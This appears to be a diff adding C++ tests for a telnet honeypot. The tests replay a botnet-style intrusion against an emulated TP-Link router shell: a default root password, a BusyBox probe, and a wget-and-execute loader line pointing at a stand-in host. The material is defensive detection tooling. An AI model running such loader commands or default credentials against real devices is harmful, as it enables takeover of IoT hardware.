@@ -1,0 +1,150 @@
+// The telnet honeypot as it runs: TelnetService on a real SessionServer on loopback, a plain
+// socket client, events through the Collector.
+
+#include <chrono>
+#include <thread>
+
+#include <arpa/inet.h>
+#include <gtest/gtest.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include "honeypot/telnet/telnet_service.h"
+#include "support/recording_collector.h"
+
+namespace kansoku::honeypot {
+namespace {
+
+namespace asio = boost::asio;
+
+class Client {
+public:
+    explicit Client(uint16_t port) {
+        fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
+        sockaddr_in address{};
+        address.sin_family = AF_INET;
+        address.sin_port = htons(port);
+        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+        timeval timeout{5, 0};
+        setsockopt(fd_, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof(timeout));
+        if (::connect(fd_, reinterpret_cast<sockaddr*>(&address), sizeof(address)) != 0) {
+            throw std::runtime_error("connect failed");
+        }
+    }
+    ~Client() { ::close(fd_); }
+
+    void send(std::string_view text) { ASSERT_EQ(::send(fd_, text.data(), text.size(), 0), ssize_t(text.size())); }
+
+    /// Reads until `marker` has been seen (or the connection closes / 5 s pass); returns all read.
+    std::string readUntil(std::string_view marker) {
+        while (seen_.find(marker) == std::string::npos) {
+            char buffer[4096];
+            const ssize_t n = ::recv(fd_, buffer, sizeof(buffer), 0);
+            if (n <= 0) {
+                break;
+            }
+            seen_.append(buffer, static_cast<size_t>(n));
+        }
+        std::string out;
+        out.swap(seen_);
+        return out;
+    }
+
+private:
+    int fd_ = -1;
+    std::string seen_;
+};
+
+class TelnetServiceTest : public ::testing::Test {
+protected:
+    void SetUp() override {
+        auto persona =
+            shell::Persona::load(std::string(KANSOKU_SOURCE_DIR) + "/rules/personas/tplink-wr841n-mips.toml");
+        ASSERT_TRUE(persona) << persona.error().message;
+        auto policy =
+            std::make_shared<const telnet::AcceptListedPolicy>(std::vector<telnet::Credential>{{"root", "xc3511"}});
+        service_ = std::make_unique<telnet::TelnetService>(
+            collector_, std::make_shared<const shell::Persona>(std::move(*persona)), policy);
+        server::ServerConfig config;
+        config.service = "telnet";
+        server_ = std::make_unique<server::SessionServer>(io_, config, service_->factory(), sink_);
+        ASSERT_TRUE(server_->start());
+        thread_ = std::thread([this] { io_.run(); });
+    }
+
+    /// Stops the server and waits for the io_context: afterwards the collector is complete.
+    void stop() {
+        asio::post(io_, [this] { server_->stop(); });
+        thread_.join();
+    }
+
+    void TearDown() override {
+        if (thread_.joinable()) {
+            stop();
+        }
+    }
+
+    asio::io_context io_;
+    testing::RecordingCollector collector_;
+    CollectingSink sink_;
+    std::unique_ptr<telnet::TelnetService> service_;
+    std::unique_ptr<server::SessionServer> server_;
+    std::thread thread_;
+};
+
+TEST_F(TelnetServiceTest, LoginShellAndLoaderLikeABusyBoxRouter) {
+    {
+        Client client(server_->localPort());
+        EXPECT_NE(client.readUntil("login: ").find("TL-WR841N login: "), std::string::npos);
+        client.send("root\r\n");
+        client.readUntil("Password: ");
+        client.send("admin\r\n");
+        EXPECT_NE(client.readUntil("login: ").find("Login incorrect"), std::string::npos);
+        client.send("root\r\n");
+        client.readUntil("Password: ");
+        client.send("xc3511\r\n");
+        EXPECT_NE(client.readUntil("# ").find("built-in shell (ash)"), std::string::npos);
+        client.send("/bin/busybox ECCHI\r\n");
+        EXPECT_NE(client.readUntil("# ").find("ECCHI: applet not found\r\n"), std::string::npos);
+        client.send("cd /tmp; wget http://192.0.2.9/bins/x.mips; echo -ne '\\x7fELF' > .y; ./.y\r\n");
+        client.readUntil("# ");
+        client.send("exit\r\n");
+        client.readUntil("never");
+    }
+    stop();
+    const auto logins = collector_.ofType("honeypot.login");
+    ASSERT_EQ(logins.size(), 2u);
+    EXPECT_EQ(logins[0]->fields["success"], false);
+    EXPECT_EQ(logins[1]->fields["password"], "xc3511");
+    EXPECT_EQ(logins[1]->fields["success"], true);
+    EXPECT_EQ(logins[1]->fields["protocol"], "telnet");
+    EXPECT_EQ(collector_.ofType("honeypot.connect").size(), 1u);
+    EXPECT_EQ(collector_.ofType("honeypot.command").size(), 3u);
+    ASSERT_EQ(collector_.downloads.size(), 1u);
+    EXPECT_EQ(collector_.downloads[0].url, "http://192.0.2.9/bins/x.mips");
+    ASSERT_EQ(collector_.files.size(), 1u);
+    EXPECT_EQ(collector_.files[0].content, "\x7f"
+                                           "ELF");
+    const std::string session = logins[0]->fields["session"];
+    EXPECT_EQ(collector_.files[0].session, session);
+    ASSERT_EQ(sink_.events.size(), 1u);
+    EXPECT_EQ(sink_.events[0].type, "honeypot.session");
+    EXPECT_EQ(sink_.events[0].fields["session"], session);
+}
+
+TEST_F(TelnetServiceTest, AttemptsCountAcrossConnectionsOfASource) {
+    for (int i = 0; i < 2; ++i) {
+        Client client(server_->localPort());
+        client.readUntil("login: ");
+        client.send("admin\r\n");
+        client.readUntil("Password: ");
+        client.send("admin\r\n");
+        client.readUntil("login: ");
+    }
+    stop(); // every session has closed (by the client or by the stop), so both were counted
+    EXPECT_EQ(service_->attempts().prior("127.0.0.1"), 2u);
+}
+
+} // namespace
+} // namespace kansoku::honeypot
